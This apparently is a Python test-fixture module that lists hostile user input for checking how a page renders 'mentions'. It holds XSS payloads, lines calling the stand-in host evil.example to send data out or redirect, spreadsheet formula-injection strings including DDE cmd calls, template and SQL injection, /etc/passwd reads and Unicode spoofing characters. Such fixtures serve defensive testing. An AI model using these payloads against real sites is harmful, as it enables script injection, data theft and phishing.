"""What hostile people write: mentions that try to run, to leave, to lie or to break a page.

Whatever runs says so: it calls `alert`, writes `RAN` to the console, sets `window.ran`, or asks for
something at `evil.example`.
"""

from __future__ import annotations

from typing import Final, NamedTuple


class Written(NamedTuple):
    """A mention as somebody wrote it, field by field."""

    text: str
    author: str = "someone"
    title: str | None = None
    url: str | None = "https://example.org/1"


RUN: Final = "window.ran=1;console.log('RAN');alert(1);fetch('//evil.example/')"
MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"</p></blockquote><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.ran=1;{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><button>Sign in again</button></form>',
    '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
    f'<div hx-get="//evil.example/" hx-trigger="load" hx-on::load="{RUN}">',
    "<!--<img src='//evil.example/x.png'>-->",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>console.log('RAN')</script>",
    "{{ 7|add:7 }}{% load static %}{% now 'Y' %} ${7*7} #{7*7} <%= 7*7 %>",
    '#image("/etc/passwd") #eval("1+1") $x^2$ \\input{/etc/passwd}',
    "[a](javascript:alert(1)) ![b](//evil.example/x.png) **c** `d`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "'; DROP TABLE mentions; -- \" OR 1=1",
    "%s %d %(x)s {0} {x.__class__} %n",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "=1+1\n=2+2", "\uff1d1+1", '","=1+1', "';=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "\x00=1+1", "\u202e=1+1", "\ufeff=1+1",
)  # fmt: skip
LETTERS: Final = (
    "\u202egnp.exe\u202c is not what it looks like", "\u2066\u2067\u2068 isolates \u2069\u2069",
    "zero\u200bwidth\u200d\u2060\ufeff joins", "null\x00byte \x1b[31mred\x07 \x08\x7f\x9b",
    "\ud83d".encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace") + " half a pair",
    "Z" + "\u0300\u0301\u0302\u0489" * 400, "\ufdfd" * 300, "\N{PILE OF POO}" * 40_000,
    "\N{WOMAN}\u200d\N{WOMAN}\u200d\N{GIRL}\u200d\N{BOY}" * 3_000, "W" * 5_000, "a\n" * 3_000,
    "\u2028\u2029 lines", "\u0627\u0644\u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd mixed 123",
    "\U000e0041\U000e0042 tags", "\uffff\ufffe none", "x" * 1_000_000, " ", "\u3000\u00a0",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "\x01javascript:alert(1)", "//evil.example/", "file:///etc/passwd",
    'https://example.org/"onmouseover="alert(1)', "https://example.org/'><script>alert(1)</script>",
)  # fmt: skip
ALL: Final = (
    *(Written(text) for text in (*MARKUP, *FORMULAS, *LETTERS)),
    *(Written("named", author=text[:4_000]) for text in (*MARKUP, *FORMULAS, *LETTERS)),
    *(Written("titled", title=text[:4_000]) for text in (*MARKUP, *FORMULAS, *LETTERS)),
    *(Written("led", url=address) for address in ADDRESSES),
)
